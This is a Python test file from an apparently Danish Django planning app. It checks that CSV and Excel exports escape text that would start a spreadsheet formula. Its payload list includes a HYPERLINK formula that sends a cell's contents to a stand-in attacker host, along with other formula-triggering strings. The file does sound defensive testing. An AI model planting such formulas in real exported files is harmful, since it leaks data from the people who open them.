"""Exports never hand Excel a formula (OWASP «CSV injection»).

Text typed by a person ("=HYPERLINK(...)", "+1+1", "-2+3", "@SUM(1)", a tab or CR first) goes
into every CSV and XLSX file the system writes. In a CSV file such text gets a leading
apostrophe (core.spreadsheets.safe_cell); in a workbook it is a string cell with Excel's quote
prefix (core.spreadsheets.workbook_bytes). Numbers stay numbers: a negative number is a number.
The registrations CSV is also the import format: the apostrophe comes off again on import.
"""

import csv
import datetime
import io
from decimal import Decimal

import openpyxl
import pytest
from django.urls import reverse

from helhedsplan.conftest import PASSWORD
from helhedsplan.core.periods import plan_years
from helhedsplan.core.spreadsheets import (
    read_table,
    safe_cell,
    unquote_cell,
    workbook_bytes,
)
from helhedsplan.documents.kinds import ReportKind
from helhedsplan.progress.milestones import milestone_plan_xlsx
from helhedsplan.progress.models import Milestone
from helhedsplan.registrations.importer import import_registrations, template_csv, template_xlsx
from helhedsplan.registrations.models import Measurement, Registration
from helhedsplan.registrations.services import RegistrationInput, save_registration
from helhedsplan.reports.assemble import narrative_topics
from helhedsplan.reports.models import Narrative
from helhedsplan.reports.services import make_report

SLUG = "randers-nordby-2017-21"
PAYLOADS = [
    '=HYPERLINK("http://angriber.example/?d="&A1,"Klik")',
    "+1+1",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
# One period of each report kind with data in it.
REPORT_PERIODS = {
    ReportKind.FREMDRIFT: "2018/19-T2",
    ReportKind.PROJEKTLEDELSE: "2018/19-T2",
    ReportKind.AARSRAPPORT: "2018/19",
    ReportKind.MONITORERING: "2018/19-T2",
    ReportKind.AKTIVITETSSKEMA: "2018/19",
}


def xlsx_cells(content: bytes):
    """Every cell with a value in every sheet, read back as Excel would store it."""
    book = openpyxl.load_workbook(io.BytesIO(content))
    return [
        item for sheet in book.worksheets for row in sheet.iter_rows() for item in row if item.value
    ]


def assert_no_formula(content: bytes, expected: list[str]) -> None:
    cells = xlsx_cells(content)
    formulas = [f"{item.coordinate}: {item.value!r}" for item in cells if item.data_type == "f"]
    assert formulas == []
    risky = [item for item in cells if isinstance(item.value, str) and item.value[:1] in "=+-@\t\r"]
    assert all(item.data_type == "s" and item.quotePrefix for item in risky), [
        (item.coordinate, item.value, item.data_type, item.quotePrefix) for item in risky
    ]
    values = {item.value for item in cells if isinstance(item.value, str)}
    for payload in expected:
        assert any(payload in value for value in values), f"{payload!r} not written at all"


# --- the shared helper ---------------------------------------------------------------------


@pytest.mark.parametrize("payload", PAYLOADS)
def test_text_that_starts_a_formula_gets_an_apostrophe_in_csv(payload):
    assert safe_cell(payload) == "'" + payload
    assert unquote_cell(safe_cell(payload)) == payload


@pytest.mark.parametrize("value", ["Fællesspisning", "", "P-0001", "a=b", "2018-09-14", "1-2"])
def test_ordinary_text_is_written_as_it_is(value):
    assert safe_cell(value) == value
    assert unquote_cell(value) == value


@pytest.mark.parametrize("value", [-5, -2.5, Decimal("-3"), 0, None, datetime.date(2018, 1, 1)])
def test_numbers_dates_and_empty_cells_are_not_text(value):
    assert safe_cell(value) is value


@pytest.mark.parametrize("value", ["'=1+1", "''+2", "'-note'", "'plain"])
def test_text_that_already_starts_with_an_apostrophe_round_trips_too(value):
    assert unquote_cell(safe_cell(value)) == value


def test_a_workbook_written_through_the_helper_has_no_formula_and_keeps_numbers():
    book = openpyxl.Workbook()
    book.active.append([*PAYLOADS, -5, 2.5, "ok"])
    content = workbook_bytes(book)
    cells = openpyxl.load_workbook(io.BytesIO(content)).active[1]
    assert [item.data_type for item in cells] == ["s"] * len(PAYLOADS) + ["n", "n", "s"]
    assert [item.value for item in cells][: len(PAYLOADS)] == PAYLOADS
    assert cells[len(PAYLOADS)].value == -5
    assert all(item.quotePrefix for item in cells[: len(PAYLOADS)])
    assert not cells[-1].quotePrefix


# --- the registrations export (CSV) and its round trip through the import --------------------


def _register(plan, note, day=14):
    criterion = plan.success_criteria.get(key="hotspot-kontakt")
    data = RegistrationInput(
        activity=criterion.activity,
        date=datetime.date(2018, 9, day),
        kind="contact",
        criteria=[criterion],
        codes=[f"R-{day}"],
        note=note,
    )
    return save_registration(plan, data, confirmed_duplicate=True)


def _export(client) -> str:
    response = client.get(reverse("registrations:export", args=[SLUG]))
    assert response.status_code == 200
    return response.content.decode("utf-8-sig")


def test_the_registrations_export_puts_an_apostrophe_before_every_formula(
    client, plan, medarbejder
):
    for day, payload in enumerate(PAYLOADS, start=1):
        _register(plan, payload, day)
    client.login(username="medarbejder", password=PASSWORD)
    rows = list(csv.reader(io.StringIO(_export(client), newline=""), delimiter=";"))
    notes = [row[-1] for row in rows[1:]]
    assert sorted(notes) == sorted("'" + payload for payload in PAYLOADS)
    # Counts stay numbers: nothing else in the file gained an apostrophe.
    assert all(not value.startswith("'") for row in rows[1:] for value in row[:-1])


def test_an_exported_note_comes_back_unchanged_when_the_file_is_imported_again(
    client, plan, medarbejder
):
    """The export is the import format: the apostrophe is taken off again on import (the
    import trims spaces, tabs and line breaks around a cell, as it always has)."""
    for day, payload in enumerate(PAYLOADS, start=1):
        _register(plan, payload, day)
    client.login(username="medarbejder", password=PASSWORD)
    exported = _export(client).encode("utf-8")
    Registration.objects.filter(plan=plan).delete()
    result = import_registrations(
        plan=plan, rows_source=exported, filename="eksport.csv", today=datetime.date(2021, 5, 31)
    )
    assert result.errors == []
    notes = Registration.objects.filter(plan=plan).values_list("note", flat=True)
    assert sorted(notes) == sorted(payload.strip() for payload in PAYLOADS)


def test_the_import_reads_an_apostrophe_before_a_formula_as_the_plain_text():
    source = b"activity;note\r\nhotspot;'=1+1\r\nhotspot;'plain\r\n"
    assert read_table(source, "fil.csv")[1:] == [["hotspot", "=1+1"], ["hotspot", "'plain"]]


# --- the import templates ------------------------------------------------------------------


def test_the_import_templates_write_a_criterion_text_as_text(plan):
    activity = plan.activities.get(key="hotspot")
    criterion = activity.success_criteria.order_by("order", "id").first()
    criterion.text = PAYLOADS[0]
    criterion.save()
    assert_no_formula(template_xlsx(activity), [PAYLOADS[0]])
    rows = list(csv.reader(io.StringIO(template_csv(activity)), delimiter=";"))
    assert all(value[:1] not in FORMULA_START for row in rows for value in row)


# --- the milestone plan (XLSX) -------------------------------------------------------------


def test_the_milestone_plan_writes_titles_owners_and_notes_as_text(client, plan, sekretariat):
    activity = plan.activities.get(key="naboskab")
    activity.name = "-2+3"
    activity.save()
    year = plan_years(plan.start, plan.end)[1]
    for number, payload in enumerate(PAYLOADS):
        Milestone.objects.create(
            plan=plan,
            activity=activity,
            month=datetime.date(2018, 6 + number, 1),
            title=payload,
            owner="@SUM(1)",
            note="+1+1",
        )
    assert_no_formula(
        milestone_plan_xlsx(plan=plan, activity=activity, year=year), [*PAYLOADS, "-2+3"]
    )
    client.login(username="sekretariat", password=PASSWORD)
    response = client.get(
        reverse("progress:milestone_export", args=[SLUG, "naboskab", year.label.replace("/", "-")])
    )
    assert response.status_code == 200
    assert_no_formula(response.content, PAYLOADS)


# --- the reports (XLSX), every kind ------------------------------------------------------


@pytest.fixture
def report_payloads(plan):
    """Formula-like text in the plan's name, activity names, measurements and every report text."""
    plan.name = '=HYPERLINK("http://angriber.example","Planen")'
    plan.save()
    activity = plan.activities.get(key="naboskab")
    activity.name = "+1+1 naboskab"
    activity.save()
    Measurement.objects.create(
        plan=plan,
        local_measure=plan.local_measures.get(key="fraflytning"),
        date=datetime.date(2018, 12, 31),
        value=Decimal("-2"),
        source="@SUM(1)",
        note="-2+3",
    )
    for kind, period in REPORT_PERIODS.items():
        for topic, _label in narrative_topics(plan, kind):
            Narrative.objects.create(
                plan=plan, report=kind, period=period, topic=topic, text=PAYLOADS[0]
            )
    return plan


@pytest.mark.parametrize("kind", list(REPORT_PERIODS))
def test_every_report_kind_writes_texts_as_text_in_excel(report_payloads, kind):
    made = make_report(
        plan=report_payloads,
        kind=kind,
        period=REPORT_PERIODS[kind],
        file_format="xlsx",
        suppress=False,
        at=None,
    )
    assert_no_formula(made.content, [report_payloads.name, PAYLOADS[0]])
